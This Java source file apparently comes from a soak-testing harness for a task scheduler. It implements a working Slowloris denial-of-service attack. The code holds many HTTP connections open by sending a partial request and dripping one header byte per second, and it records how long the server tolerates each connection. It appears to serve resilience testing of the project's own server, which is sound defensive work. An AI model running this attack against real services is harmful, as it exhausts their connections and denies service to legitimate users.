package io.taskwire.bench.soak;

import java.io.IOException;
import java.io.InputStream;
import java.net.Socket;
import java.net.SocketTimeoutException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import org.HdrHistogram.Histogram;

/**
 * HTTP connections that send {@code POST /api/v1/tasks HTTP/1.1}, a Host header, and
 * then one byte of a further header per second, dialled again whenever the scheduler closes one.
 * How long the scheduler let each one hold its connection is recorded.
 */
final class Slowloris extends Attack {

    private static final byte[] START = ("POST /api/v1/tasks HTTP/1.1\r\nHost: localhost\r\nX-Slow: ")
            .getBytes(StandardCharsets.US_ASCII);

    private final int port;
    private final int connections;
    private final List<Held> held = new ArrayList<>();
    private final Histogram heldSeconds = new Histogram(3_600, 2);

    Slowloris(String sourceAddress, int port, int connections) {
        super("slowloris", sourceAddress);
        this.port = port;
        this.connections = connections;
    }

    @Override
    String description() {
        return connections + " HTTP connections sending a request line, Host and then one header byte a second";
    }

    @Override
    void start() {
        paced("drip", 1, this::drip);
    }

    /** One byte to every connection; what was closed is counted and dialled again. */
    private void drip() throws IOException {
        synchronized (held) {
            for (int i = 0; i < held.size(); i++) {
                Held connection = held.get(i);
                String closed = connection.dripOrClosed();
                if (closed != null) {
                    count(closed);
                    synchronized (heldSeconds) {
                        heldSeconds.recordValue(Math.min(3_600, connection.ageSeconds()));
                    }
                    connection.socket.close();
                    held.remove(i--);
                }
            }
            while (held.size() < connections && running()) {
                Socket socket = RawFrames.open(sourceAddress(), port);
                socket.getOutputStream().write(START);
                socket.getOutputStream().flush();
                held.add(new Held(socket, System.nanoTime()));
                count("opened");
            }
        }
    }

    /** @return the median and longest time the scheduler let a connection hold on, once one was closed */
    @Override
    List<String> notes() {
        synchronized (heldSeconds) {
            return heldSeconds.getTotalCount() == 0 ? List.of() : List.of(String.format(
                    "held %d s (median), %d s (longest)", heldSeconds.getValueAtPercentile(50), heldSeconds.getMaxValue()));
        }
    }

    @Override
    void stopped() {
        synchronized (held) {
            RawFrames.closeAll(held.stream().map(Held::socket).toList());
            held.clear();
        }
    }

    private record Held(Socket socket, long openedAt) {

        long ageSeconds() {
            return (System.nanoTime() - openedAt) / 1_000_000_000L;
        }

        /** @return null while the scheduler keeps reading; else how it ended the connection */
        String dripOrClosed() throws IOException {
            socket.setSoTimeout(1);
            InputStream in = socket.getInputStream();
            try {
                byte[] answer = new byte[12];
                int read = in.read(answer);
                return read < 0 ? "closed" : "answered " + new String(answer, 0, read, StandardCharsets.US_ASCII).trim()
                        + ", closed";
            } catch (SocketTimeoutException stillReading) {
                // nothing from the scheduler yet: send the next byte
            } catch (IOException reset) {
                return "closed";
            }
            try {
                socket.getOutputStream().write('a');
                socket.getOutputStream().flush();
                return null;
            } catch (IOException closed) {
                return "closed";
            }
        }
    }
}
